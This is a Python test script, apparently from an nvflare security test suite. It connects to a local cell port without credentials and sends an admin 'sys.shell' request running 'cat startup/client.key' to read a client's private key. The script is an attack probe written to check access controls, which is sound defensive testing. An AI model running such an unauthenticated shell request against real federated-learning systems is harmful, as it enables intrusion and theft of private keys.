"""A process without any credential that talks to a port of the loopback: ``python -m tests.attacks.stranger PORT``."""

from __future__ import annotations

import logging
import os
import sys
import time

from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.message import Message
from nvflare.private import admin_defs
from nvflare.private.fed.utils.fed_utils import nvflare_fobs_initialize


def main() -> None:
    logging.disable(logging.CRITICAL)
    nvflare_fobs_initialize()
    cell = CoreCell("A.stranger", "", False, {}, parent_url=f"tcp://localhost:{sys.argv[1]}")
    cell.start()
    while not cell.agents:
        time.sleep(0.02)
    command = admin_defs.Message(topic="sys.shell", body="cat startup/client.key")
    reply = cell.send_request("admin", "admin", "A", Message({}, command), timeout=10)
    print(getattr(reply.payload, "body", reply.payload), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
